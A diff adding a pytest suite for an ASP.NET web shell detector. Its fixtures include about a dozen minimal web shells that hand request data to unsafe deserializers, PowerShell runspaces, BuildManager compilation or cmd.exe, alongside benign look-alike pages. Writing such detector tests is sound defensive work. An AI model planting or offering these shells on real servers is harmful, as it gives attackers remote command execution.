@@ -1,0 +1,220 @@
+"""Sinks and sources that published descriptions of ASP.NET web shells use, each with a shell
+written from the description and a genuine page that looks like it (docs/detection/webshell-code.md,
+"Published sinks and sources")."""
+
+from __future__ import annotations
+
+import pytest
+
+from code_support import chain_of, medium_or_above, run
+
+
+def page(body: str) -> str:
+    return (
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "protected void Page_Load(object sender, EventArgs e) {\n" + body + "\n}\n</script>"
+    )
+
+
+SHELLS = [
+    (
+        "los.aspx",
+        page('new System.Web.UI.LosFormatter().Deserialize(Request.Form["state"]);'),
+        "EXH-WS-CODE-DESERIALIZE",
+        ["form field 'state'", "LosFormatter.Deserialize"],
+    ),
+    (
+        "osf.aspx",
+        page(
+            "var f = new System.Web.UI.ObjectStateFormatter();\n"
+            'f.Deserialize(Convert.FromBase64String(Request.Headers["X-State"]));'
+        ),
+        "EXH-WS-CODE-DESERIALIZE",
+        ["request header 'X-State'", "base64-decodes it"],
+    ),
+    (
+        "xaml.aspx",
+        page('System.Windows.Markup.XamlReader.Parse(Request.Unvalidated.Form["x"]);'),
+        "EXH-WS-CODE-DESERIALIZE",
+        ["form field 'x'", "XamlReader.Parse"],
+    ),
+    (
+        "dataset.ashx",
+        """<%@ WebHandler Language="C#" Class="D" %>
+public class D : System.Web.IHttpHandler {
+    public void ProcessRequest(System.Web.HttpContext context) {
+        var ds = new System.Data.DataSet();
+        ds.ReadXml(context.Request.InputStream);
+    }
+    public bool IsReusable { get { return false; } }
+}""",
+        "EXH-WS-CODE-DESERIALIZE",
+        ["the request body", "DataSet.ReadXml"],
+    ),
+    (
+        "jss.aspx",
+        page(
+            "var r = new System.Web.Script.Serialization.SimpleTypeResolver();\n"
+            "var s = new System.Web.Script.Serialization.JavaScriptSerializer(r);\n"
+            'Response.Write(s.DeserializeObject(Request.Params["j"]));'
+        ),
+        "EXH-WS-CODE-DESERIALIZE-TYPED",
+        ["request parameter 'j'", "creates the types the data names"],
+    ),
+    (
+        "jsonnet.aspx",
+        page(
+            "var st = new Newtonsoft.Json.JsonSerializerSettings();\n"
+            "st.TypeNameHandling = Newtonsoft.Json.TypeNameHandling.Auto;\n"
+            "var body = new System.IO.StreamReader(Request.InputStream).ReadToEnd();\n"
+            "Newtonsoft.Json.JsonConvert.DeserializeObject<object>(body, st);"
+        ),
+        "EXH-WS-CODE-DESERIALIZE-TYPED",
+        ["the request body", "JsonConvert.DeserializeObject"],
+    ),
+    (
+        "pipeline.aspx",
+        page(
+            "var rs = System.Management.Automation.Runspaces.RunspaceFactory.CreateRunspace();\n"
+            "rs.Open();\n"
+            'var p = rs.CreatePipeline(Request.Form["ps"]);\n'
+            "foreach (var o in p.Invoke()) Response.Write(o);"
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["form field 'ps'", "runs it as a command"],
+    ),
+    (
+        "runspaceinvoke.aspx",
+        page(
+            "var ri = new System.Management.Automation.RunspaceInvoke();\n"
+            'foreach (var o in ri.Invoke(Request.QueryString["ps"])) Response.Write(o);'
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["query parameter 'ps'", "RunspaceInvoke.Invoke"],
+    ),
+    (
+        "buildmanager.aspx",
+        page(
+            'var t = System.Web.Compilation.BuildManager.GetCompiledType(Request["p"]);\n'
+            "((IHttpHandler)Activator.CreateInstance(t)).ProcessRequest(Context);"
+        ),
+        "EXH-WS-CODE-COMPILE",
+        ["request parameter 'p'", "compiles it as .NET code"],
+    ),
+    (
+        "buildinstance.aspx",
+        page(
+            "var o = System.Web.Compilation.BuildManager.CreateInstanceFromVirtualPath("
+            '"~/upload/" + Request.Form["n"], typeof(object));'
+        ),
+        "EXH-WS-CODE-COMPILE",
+        ["form field 'n'", "BuildManager.CreateInstanceFromVirtualPath"],
+    ),
+    (
+        "route.aspx",
+        page('System.Diagnostics.Process.Start("cmd.exe", "/c " + Page.RouteData.Values["c"]);'),
+        "EXH-WS-CODE-PROCESS",
+        ["route value 'c'", "runs it as a command"],
+    ),
+    (
+        "route-context.aspx",
+        page(
+            'var c = (string)Request.RequestContext.RouteData.Values["c"];\n'
+            'var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c);\n'
+            "System.Diagnostics.Process.Start(psi);"
+        ),
+        "EXH-WS-CODE-PROCESS",
+        ["route value 'c'"],
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
+def test_published_sink_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
+    report = run(name, code)
+    chain = chain_of(report, rule_id)
+    for w in words:
+        assert w in chain, chain
+    assert rule_id in medium_or_above(report)
+
+
+def test_dynamic_invoke_is_reflection_context() -> None:
+    report = run(
+        "dyn.aspx",
+        page(
+            'var m = typeof(Console).GetMethod(Request.Form["m"]);\n'
+            "var d = Delegate.CreateDelegate(typeof(Action<string>), m);\n"
+            'd.DynamicInvoke(Request.Form["a"]);'
+        ),
+    )
+    assert any(c.api == ".DynamicInvoke" for c in report.capabilities if c.rule_id == "EXH-WS-CODE-REFLECTION")
+
+
+BENIGN = [
+    (
+        "json-api.ashx",
+        """<%@ WebHandler Language="C#" Class="Api" %>
+public class Api : System.Web.IHttpHandler {
+    public class Order { public int Id; public string Note; }
+    public void ProcessRequest(System.Web.HttpContext context) {
+        var body = new System.IO.StreamReader(context.Request.InputStream).ReadToEnd();
+        var js = new System.Web.Script.Serialization.JavaScriptSerializer();
+        var order = js.Deserialize<Order>(body);
+        var settings = new Newtonsoft.Json.JsonSerializerSettings { TypeNameHandling = Newtonsoft.Json.TypeNameHandling.None };
+        var copy = Newtonsoft.Json.JsonConvert.DeserializeObject<Order>(context.Request.Form["order"], settings);
+        context.Response.Write(order.Id + copy.Note);
+    }
+    public bool IsReusable { get { return true; } }
+}""",
+    ),
+    (
+        "settings.aspx",
+        page(
+            "var ds = new System.Data.DataSet();\n"
+            'ds.ReadXml(Server.MapPath("~/App_Data/settings.xml"));\n'
+            'var state = new System.Web.UI.LosFormatter().Deserialize(System.IO.File.ReadAllText(Server.MapPath("~/App_Data/state.txt")));\n'
+            "var ui = System.Windows.Markup.XamlReader.Parse(\"<TextBlock xmlns='http://schemas.microsoft.com/winfx/2006/xaml/presentation' />\");\n"
+            'Grid.DataSource = ds.Tables[Request.QueryString["t"]];'
+        ),
+    ),
+    (
+        "order-detail.aspx",
+        page(
+            "var ds = new System.Data.DataSet();\n"
+            'ds.ReadXml(Request.QueryString["DetailXMLFile"]);\n'
+            'Grid.DataSource = ds.Tables[0].Select("ID = " + int.Parse(Request.QueryString["ID"]));'
+        ),
+    ),
+    (
+        "widget-host.aspx",
+        page(
+            'var w = System.Web.Compilation.BuildManager.CreateInstanceFromVirtualPath("~/Widgets/Clock.ascx", typeof(Control));\n'
+            'var t = System.Web.Compilation.BuildManager.GetCompiledType("~/Widgets/Weather.ascx");\n'
+            "Holder.Controls.Add((Control)w);"
+        ),
+    ),
+    (
+        "mailbox-report.aspx",
+        page(
+            "var rs = System.Management.Automation.Runspaces.RunspaceFactory.CreateRunspace();\n"
+            "rs.Open();\n"
+            'var p = rs.CreatePipeline("Get-MailboxStatistics | Sort-Object TotalItemSize");\n'
+            'Response.Write(Server.HtmlEncode(Request.QueryString["sort"]));\n'
+            "foreach (var o in p.Invoke()) Response.Write(o);"
+        ),
+    ),
+    (
+        "article.aspx",
+        page(
+            'var slug = Page.RouteData.Values["slug"] as string;\n'
+            'var text = System.IO.File.ReadAllText(Server.MapPath("~/Articles/" + System.IO.Path.GetFileName(slug) + ".html"));\n'
+            "Body.Text = text;"
+        ),
+    ),
+]
+
+
+@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
+def test_benign_look_alike(name: str, code: str) -> None:
+    report = run(name, code)
+    assert medium_or_above(report) == [], [c.chain for c in report.capabilities]
